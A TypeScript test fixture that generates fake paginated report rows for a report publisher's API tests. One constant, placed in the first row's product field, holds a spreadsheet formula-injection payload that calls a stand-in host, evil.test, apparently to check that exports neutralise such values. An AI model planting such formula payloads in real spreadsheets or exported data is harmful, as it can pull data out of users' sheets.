import type { ReportPage } from '../../domain/contracts/reports';
import { reportSource, type ReportSourceId } from '../../domain/reports/report-sources';
import type { ReadReportPage } from '../../sync-server/reports/report-publisher';

/**
 * TEST-ONLY stand-in for sync-server/reports/report-reads.ts with the same signature: pages of generated
 * rows shaped like the real ones (money as decimal strings, dates as YYYY-MM-DD, empty amounts as null
 * with the reason in `missing`). It lets the publisher's API-call tests choose their row counts exactly.
 */
export const HOSTILE_PRODUCT = '=IMPORTXML("http://evil.test","//a")';

export function standInReportReads(rowsPerSource: Partial<Record<ReportSourceId, number>>): ReadReportPage {
  return async (_db, _workspaceId, sourceId, page) => {
    const source = reportSource(sourceId);
    const total = rowsPerSource[sourceId] ?? 0;
    const start = page.after ? Number(page.after) : 0;
    const end = Math.min(total, start + page.limit);
    const rows: ReportPage['rows'] = [];
    for (let i = start; i < end; i++) {
      const missingCost = i % 7 === 3;
      rows.push(
        source.columns.map((column) => {
          if (column.key === 'missing') return missingCost ? 'cost' : '';
          if (column.key === 'product') return i === 0 ? HOSTILE_PRODUCT : `Product ${i % 40}`;
          if (column.key === 'country') return ['US', 'DE', 'GB', 'JP'][i % 4]!;
          if (column.key === 'channel') return ['shopify', 'amazon'][i % 2]!;
          switch (column.type) {
            case 'date':
              return `2026-${String((i % 3) + 9).padStart(2, '0')}-${String((i % 28) + 1).padStart(2, '0')}`;
            case 'integer':
              return (i % 5) + 1;
            case 'money':
              return missingCost && ['cogs', 'profit', 'unit_cost', 'value'].includes(column.key)
                ? null
                : `${(i % 97) + 1}.${String(i % 100).padStart(2, '0')}`;
            case 'ratio':
              return '0.25';
            default:
              return `${column.key}-${i % 13}`;
          }
        }),
      );
    }
    return {
      source: sourceId,
      base_currency: 'USD',
      columns: source.columns.map((column) => column.key),
      rows,
      next: end < total ? String(end) : null,
    };
  };
}
